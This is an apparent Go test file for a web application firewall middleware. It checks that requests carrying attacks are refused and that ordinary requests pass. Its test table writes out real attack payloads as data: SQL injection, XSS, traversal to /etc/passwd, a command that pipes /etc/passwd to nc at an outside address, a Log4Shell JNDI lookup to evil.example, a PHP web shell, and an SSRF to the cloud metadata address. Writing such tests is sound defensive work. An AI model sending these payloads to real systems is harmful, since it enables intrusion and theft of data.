package middleware

import (
	"bytes"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/fairlead/fairlead/internal/model"
)

// Attacks of the kinds that the core rule set is about, and requests that must pass.
func TestWAFWithTheCoreRuleSet(t *testing.T) {
	var log bytes.Buffer
	s := NewSet(Options{Log: slog.New(slog.NewTextHandler(&log, nil))})
	block := build(t, s, model.Middleware{WAF: &model.WAF{}})
	const form = "application/x-www-form-urlencoded"
	cases := map[string]struct {
		method, target, body, kind string
		fields                     []string
		want                       int
	}{
		"a page":              {"GET", "/news?page=2&q=fair+lead", "", "", nil, 200},
		"a form":              {"POST", "/order", "name=O%27Neill&city=Paris", form, nil, 200},
		"json":                {"POST", "/api", `{"name":"Ann","n":3}`, "application/json", nil, 200},
		"SQL in the query":    {"GET", "/?id=1%27+OR+%271%27%3D%271%27+UNION+SELECT+password+FROM+users--", "", "", nil, 403},
		"a script":            {"GET", "/?q=%3Cscript%3Ealert(1)%3C/script%3E", "", "", nil, 403},
		"a file":              {"GET", "/?file=../../../../etc/passwd", "", "", nil, 403},
		"a command":           {"POST", "/", "cmd=%3Bcat+/etc/passwd%7Cnc+1.2.3.4+80", form, nil, 403},
		"JNDI (Log4Shell)":    {"GET", "/", "", "", []string{"X-Api-Version: ${jndi:ldap://evil.example/a}"}, 403},
		"SQL in json":         {"POST", "/", `{"id":"1' OR '1'='1' UNION SELECT a FROM b--"}`, "application/json", nil, 403},
		"a scanner":           {"GET", "/", "", "", []string{"User-Agent: sqlmap/1.7"}, 403},
		"a large body":        {"POST", "/", strings.Repeat("a", 200<<10), form, nil, 413},
		"a stream of gRPC":    {"POST", "/pkg.Service/Method", "\x00\x00\x00\x00\x01a", "application/grpc", nil, 200},
		"session fixation":    {"GET", "/?x=%3Cmeta+http-equiv%3D%22Set-Cookie%22+content%3D%22a%22%3E", "", "", nil, 403},
		"PHP code":            {"POST", "/", "x=%3C%3Fphp+system(%24_GET%5B%27c%27%5D)%3B", form, nil, 403},
		"a request to inside": {"GET", "/?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data", "", "", nil, 403},
	}
	for name, c := range cases {
		t.Run(name, func(t *testing.T) {
			r := httptest.NewRequest(c.method, "http://a.example"+c.target, strings.NewReader(c.body))
			r.Header = fieldsOf(append(c.fields, "Accept: */*")...)
			if r.Header.Get("User-Agent") == "" {
				r.Header.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/140.0")
			}
			if c.kind != "" {
				r.Header.Set("Content-Type", c.kind)
			}
			var got string
			w := &reasons{ResponseRecorder: httptest.NewRecorder()}
			block(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
				body, _ := io.ReadAll(r.Body)
				got = string(body)
			})).ServeHTTP(w, r)
			if w.Code != c.want || c.want == 200 && got != c.body || c.want != 200 && w.reason != "refused_by_waf" {
				t.Errorf("got %d %q, the service gets %q; %s", w.Code, w.reason, got, &log)
			}
			if (w.Code == http.StatusForbidden) != (len(w.rules) > 0) {
				t.Errorf("got %d, and the rules %v", w.Code, w.rules)
			}
		})
	}
	if !strings.Contains(log.String(), "942100") || strings.Contains(log.String(), "UNION") {
		t.Errorf("the log does not name the rule, or quotes the request:\n%s", &log)
	}
}

// A request that is only looked at reaches the service whole, and is told of.
func TestWAFDetects(t *testing.T) {
	var log bytes.Buffer
	s := NewSet(Options{Log: slog.New(slog.NewTextHandler(&log, nil))})
	f := build(t, s, model.Middleware{WAF: &model.WAF{
		Detect: true, NoCoreRules: true, BodyBytes: 10,
		Directives: `SecRule REQUEST_BODY "@contains attack" "id:1,phase:2,deny,log,msg:'an attack'"`,
	}})
	bodies := map[string]bool{"an attack, and more": true, "nothing": false, strings.Repeat("a", 99): false}
	for body, told := range bodies {
		log.Reset()
		r := httptest.NewRequest(http.MethodPost, "/", strings.NewReader(body))
		r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		r.Header.Set("X-Any", "a")
		var got string
		w := httptest.NewRecorder()
		f(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
			all, _ := io.ReadAll(r.Body)
			got = string(all)
		})).ServeHTTP(w, r)
		if w.Code != 200 || got != body || strings.Contains(log.String(), "1 an attack") != told {
			t.Errorf("%q: got %d, the service %q, the log\n%s", body, w.Code, got, &log)
		}
	}
}

// The owner's directives decide what is looked for, not whether, and name no files of the machine.
func TestWAFDirectives(t *testing.T) {
	s := NewSet(Options{})
	f := build(t, s, model.Middleware{WAF: &model.WAF{
		NoCoreRules: true, Directives: "SecRuleEngine Off\n" +
			`SecRule REQUEST_URI "@beginsWith /admin" "id:1,phase:1,deny,status:404,log,msg:'not here'"`,
	}})
	if w, _ := exchange(f, request("/admin")); w.Code != 404 {
		t.Errorf("got %d", w.Code)
	}
	if w, _ := exchange(f, request("/")); w.Code != 200 {
		t.Errorf("got %d", w.Code)
	}
	with := func(text string) model.Middleware {
		return model.Middleware{WAF: &model.WAF{NoCoreRules: true, Directives: text}}
	}
	checkBad(t, map[string]badSpec{
		"size":    {model.Middleware{WAF: &model.WAF{BodyBytes: -1}}, "waf.bodyBytes: "},
		"syntax":  {with("SecRule"), "waf.directives: the rules cannot be read"},
		"audit":   {with("SecAuditLog /tmp/a"), "waf.directives: SecAuditLog is about files"},
		"debug":   {with("  secdebuglog /tmp/a"), "waf.directives: secdebuglog is about files"},
		"include": {with("Include /etc/passwd"), "waf.directives: Include is about files"},
	})
}
